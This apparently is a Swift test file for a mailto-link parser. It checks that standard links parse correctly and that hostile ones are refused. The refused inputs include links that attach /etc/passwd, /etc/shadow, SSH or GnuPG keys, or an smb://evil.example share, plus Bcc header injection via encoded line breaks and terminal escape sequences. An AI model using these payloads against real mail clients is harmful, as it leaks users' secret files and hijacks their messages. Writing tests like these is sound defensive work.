import Foundation
import Testing

@testable import CofferMIME

@Suite struct MailtoLinkTests {
    @Test func recipientsSubjectAndBody() throws {
        let link = try MailtoLink(
            parsing:
                "mailto:alice@example.com,bob@example.org?cc=carol@example.net&bcc=dave@example.net&subject=Hello%20there%21&body=Line%201%0D%0ALine%202&in-reply-to=%3Cparent%40example.com%3E"
        )
        #expect(link.to.map(\.address) == ["alice@example.com", "bob@example.org"])
        #expect(link.cc.map(\.address) == ["carol@example.net"])
        #expect(link.bcc.map(\.address) == ["dave@example.net"])
        #expect(link.subject == "Hello there!")
        #expect(link.body == "Line 1\nLine 2")
        #expect(link.inReplyTo == ["parent@example.com"])
    }

    @Test(arguments: [
        // RFC 6068 section 6.1 and 6.2 examples.
        ("mailto:chris@example.com", ["chris@example.com"], nil as String?, nil as String?),
        ("mailto:infobot@example.com?subject=current-issue", ["infobot@example.com"], "current-issue", nil),
        ("mailto:infobot@example.com?body=send%20current-issue", ["infobot@example.com"], nil, "send current-issue"),
        (
            "mailto:infobot@example.com?body=send%20current-issue%0D%0Asend%20index", ["infobot@example.com"], nil,
            "send current-issue\nsend index"
        ),
        ("mailto:?to=joe@example.com&cc=bob@example.com&body=hello", ["joe@example.com"], nil, "hello"),
        ("mailto:joe@example.com?cc=bob@example.com&body=hello", ["joe@example.com"], nil, "hello"),
        ("mailto:%22not%40me%22@example.org", ["\"not@me\"@example.org"], nil, nil),
        ("mailto:user@example.org?subject=caf%C3%A9", ["user@example.org"], "café", nil),
        (
            "mailto:user@example.org?subject=%3D%3Futf-8%3FQ%3Fcaf%3DC3%3DA9%3F%3D", ["user@example.org"],
            "=?utf-8?Q?caf=C3=A9?=", nil
        ),
        ("MAILTO:a@example.org?SUBJECT=x", ["a@example.org"], "x", nil),
        ("mailto:a@example.org?subject=1+1", ["a@example.org"], "1+1", nil),
        ("mailto:a@example.org?subject=&body=", ["a@example.org"], "", ""),
        ("mailto:a@example.org?&&subject=x&", ["a@example.org"], "x", nil),
        ("  mailto:a@example.org  ", ["a@example.org"], nil, nil),
        ("mailto:?body=a%0Ab%0Dc%0D%0Ad", [], nil, "a\nb\nc\nd"),
        ("mailto:a@example.org?to=b@example.org", ["a@example.org", "b@example.org"], nil, nil),
    ])
    func acceptedLinks(link: String, to: [String], subject: String?, body: String?) throws {
        let parsed = try MailtoLink(parsing: link)
        #expect(parsed.to.map(\.address) == to)
        #expect(parsed.subject == subject)
        #expect(parsed.body == body)
    }

    /// "Mailto: Me Your Secrets" (Müller et al., 2020): links that make a mail client attach local files, in every
    /// spelling a client might accept.
    @Test(arguments: [
        ("mailto:a@example.org?attach=/etc/passwd", "attach"),
        ("mailto:a@example.org?attachment=~/.gnupg/secring.gpg", "attachment"),
        ("mailto:a@example.org?subject=hi&attach=/etc/passwd", "attach"),
        ("mailto:a@example.org?ATTACH=/etc/passwd", "ATTACH"),
        ("mailto:a@example.org?Attachment=%2Fhome%2Fuser%2F.ssh%2Fid_rsa", "Attachment"),
        ("mailto:a@example.org?%61ttach=/etc/passwd", "attach"),
        ("mailto:a@example.org?%41%54%54%41%43%48=/etc/passwd", "ATTACH"),
        ("mailto:a@example.org?attach=a&attach=b", "attach"),
        ("mailto:a@example.org?attachments=/tmp/x", "attachments"),
        ("mailto:a@example.org?x-attach=/tmp/x", "x-attach"),
        ("mailto:a@example.org?file=/etc/shadow", "file"),
        ("mailto:a@example.org?files=/etc/shadow", "files"),
        ("mailto:a@example.org?path=/etc/shadow", "path"),
        ("mailto:a@example.org?attach", "attach"),
        ("mailto:a@example.org?attach=file:///etc/passwd", "attach"),
        ("mailto:a@example.org?attach=%2E%2E%2F%2E%2E%2Fetc%2Fpasswd", "attach"),
        ("mailto:a@example.org?body=x&attach=smb://evil.example/share/x", "attach"),
    ])
    func fileParametersAreRefused(link: String, parameter: String) {
        #expect(throws: ComposeError.mailtoFileParameter(parameter)) { try MailtoLink(parsing: link) }
        let description = ComposeError.mailtoFileParameter(parameter).description
        #expect(description.contains("\"\(parameter)\""))
        #expect(description.contains("local file"))
    }

    @Test(arguments: [
        ("mailto:a@example.org?from=boss@example.org", ComposeError.mailtoUnknownParameter("from")),
        ("mailto:a@example.org?reply-to=x@evil.example", .mailtoUnknownParameter("reply-to")),
        ("mailto:a@example.org?references=%3Cx%40y%3E", .mailtoUnknownParameter("references")),
        ("mailto:a@example.org?X-Header=1", .mailtoUnknownParameter("X-Header")),
        ("mailto:a@example.org?=x", .mailtoUnknownParameter("")),
        ("mailto:a@example.org?subject=a&subject=b", .mailtoDuplicateParameter("subject")),
        ("mailto:a@example.org?subject=a&SUBJECT=b", .mailtoDuplicateParameter("SUBJECT")),
        ("mailto:a@example.org?body=a&%62ody=b", .mailtoDuplicateParameter("body")),
        ("mailto:a@example.org?cc=b@example.org&cc=c@example.org", .mailtoDuplicateParameter("cc")),
        ("mailto:a@example.org?subject=%", .mailtoBadPercentEncoding(parameter: "subject")),
        ("mailto:a@example.org?subject=%4", .mailtoBadPercentEncoding(parameter: "subject")),
        ("mailto:a@example.org?subject=%G1", .mailtoBadPercentEncoding(parameter: "subject")),
        ("mailto:a@example.org?subject=100%", .mailtoBadPercentEncoding(parameter: "subject")),
        ("mailto:a%ZZ@example.org", .mailtoBadPercentEncoding(parameter: "to")),
        ("mailto:a@example.org?sub%ject=x", .mailtoBadPercentEncoding(parameter: "sub%ject")),
        ("mailto:a@example.org?subject=%C3", .mailtoInvalidUTF8(parameter: "subject")),
        ("mailto:a@example.org?body=%FF%FE", .mailtoInvalidUTF8(parameter: "body")),
        ("mailto:a@example.org?subject=%ED%A0%80", .mailtoInvalidUTF8(parameter: "subject")),
        ("mailto:a@example.org?subject=a%0D%0ABcc:%20x@evil.example", .mailtoForbiddenCharacter(parameter: "subject")),
        ("mailto:a@example.org?subject=a%0ABcc:%20x@evil.example", .mailtoForbiddenCharacter(parameter: "subject")),
        ("mailto:a@example.org?subject=a%0Db", .mailtoForbiddenCharacter(parameter: "subject")),
        ("mailto:a@example.org?subject=a%E2%80%A8b", .mailtoForbiddenCharacter(parameter: "subject")),
        ("mailto:a@example.org?subject=a%00b", .mailtoForbiddenCharacter(parameter: "subject")),
        ("mailto:a@example.org?to=b@example.org%0D%0ABcc:x@evil.example", .mailtoForbiddenCharacter(parameter: "to")),
        ("mailto:a@example.org%0ABcc:x@evil.example", .mailtoForbiddenCharacter(parameter: "to")),
        ("mailto:a@example.org?cc=b%0A@example.org", .mailtoForbiddenCharacter(parameter: "cc")),
        ("mailto:a@example.org?in-reply-to=%3Ca%0D%0AX:b%3E", .mailtoForbiddenCharacter(parameter: "in-reply-to")),
        ("mailto:a@example.org?body=a%00b", .mailtoForbiddenCharacter(parameter: "body")),
        ("mailto:a@example.org?body=a%1B[31mb", .mailtoForbiddenCharacter(parameter: "body")),
        ("mailto:a@example.org?subject=a\nb", .mailtoForbiddenCharacter(parameter: "subject")),
        ("mailto:a@example.org?subject=a\tb", .mailtoForbiddenCharacter(parameter: "subject")),
        ("mailto:a@example.org#frag", .mailtoFragment),
        ("mailto:a@example.org?subject=x#y", .mailtoFragment),
        ("http://example.org", .notMailto),
        ("mailto", .notMailto),
        ("javascript:mailto:a@example.org", .notMailto),
        ("mailto:not-an-address", .mailtoInvalidAddress(parameter: "to")),
        ("mailto:a@b%C3%BCcher.example", .mailtoInvalidAddress(parameter: "to")),
        ("mailto:a@example.org?cc=%3C%3E", .mailtoInvalidAddress(parameter: "cc")),
        ("mailto:a@example.org?in-reply-to=a%20b", .invalidMessageID(.inReplyTo(1))),
    ])
    func refusedLinks(link: String, expected: ComposeError) {
        #expect(throws: expected) { try MailtoLink(parsing: link) }
    }

    @Test func limitsAreEnforced() {
        let long = "mailto:a@example.org?body=" + String(repeating: "x", count: MailtoLink.maxLength)
        #expect(throws: ComposeError.mailtoTooLong(limit: MailtoLink.maxLength)) { try MailtoLink(parsing: long) }
        let many = "mailto:" + (0...MailtoLink.maxAddresses).map { "u\($0)@example.org" }.joined(separator: ",")
        #expect(throws: ComposeError.mailtoTooManyAddresses(limit: MailtoLink.maxAddresses)) {
            try MailtoLink(parsing: many)
        }
    }

    @Test func hostileParameterNamesAreEscapedInDescriptions() {
        let name = "x\u{1B}]0;pwned\u{07}\r\n" + String(repeating: "y", count: 100)
        let description = ComposeError.mailtoUnknownParameter(name).description
        #expect(!description.contains("\u{1B}"))
        #expect(!description.contains("\r"))
        #expect(!description.contains("\n"))
        #expect(description.contains("\\u{1b}"))
        #expect(description.contains("..."))
        #expect(description.count < 250)
    }

    @Test func rawSpacesAndUnicodeAreAccepted() throws {
        let link = try MailtoLink(parsing: "mailto:Jörg Müller <joerg@example.de>?subject=Grüße aus Köln&body=Hallo ✓")
        #expect(link.to == [MailAddress(name: "Jörg Müller", address: "joerg@example.de")])
        #expect(link.subject == "Grüße aus Köln")
        #expect(link.body == "Hallo ✓")
    }

    @Test func appliedLinkWritesAMessageWithoutInjection() throws {
        let link = try MailtoLink(
            parsing:
                "mailto:bob@example.org?subject=Re%3A%20Gr%C3%BC%C3%9Fe&body=Hi%0D%0A%0D%0A--%20me&cc=%22Smith%2C%20Carol%22%20%3Ccarol%40example.net%3E&in-reply-to=%3Cp%40example.org%3E"
        )
        var message = OutgoingMessage(
            from: MailAddress(name: nil, address: "alice@example.com"),
            date: ComposeShapes.date,
            messageID: "id@example.com"
        )
        link.apply(to: &message)
        let parsed = try MIMEParser.parse(try MessageWriter.bytes(of: message).bytes)
        #expect(parsed.to.map(\.address) == ["bob@example.org"])
        #expect(parsed.cc == [MailAddress(name: "Smith, Carol", address: "carol@example.net")])
        #expect(parsed.subject == "Re: Grüße")
        #expect(parsed.inReplyTo == ["p@example.org"])
        #expect(parsed.textBody == "Hi\r\n\r\n-- me\r\n")
    }
}
